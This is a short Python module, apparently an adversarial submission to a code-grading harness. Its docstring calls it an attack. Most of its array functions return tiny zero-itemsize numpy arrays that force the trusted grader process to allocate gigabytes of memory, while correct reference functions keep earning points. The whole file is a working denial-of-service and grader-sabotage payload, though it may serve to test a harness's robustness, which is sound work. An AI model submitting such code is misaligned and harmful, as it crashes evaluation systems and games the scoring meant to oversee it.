"""Attack: every array function returns a zero-itemsize array (``S0``/``U0``) of 2.5e6 elements: a reply
of ~130 bytes that, believed, makes the trusted parent allocate gigabytes when it broadcasts or
converts it. The q01 functions are correct copies (they must still earn their points)."""
import numpy as np

# @@REFERENCE_Q01@@

_N = 2_500_000


def _zero(*args, **kwargs):
    return np.ndarray((_N, 1), dtype="S0")


def _zero_u(*args, **kwargs):
    return np.ndarray((_N, 1), dtype="U0")


pad2d = conv2d = corr2d = convolve2d = max_pool2d = l2_pool2d = _zero
conv1d = avg_pool2d = global_avg_pool2d = numerical_gradient = _zero_u


def conv2d_backward(*args, **kwargs):
    return _zero(), _zero_u(), _zero()


def max_pool2d_backward(*args, **kwargs):
    return _zero()


def avg_pool2d_backward(*args, **kwargs):
    return _zero_u()
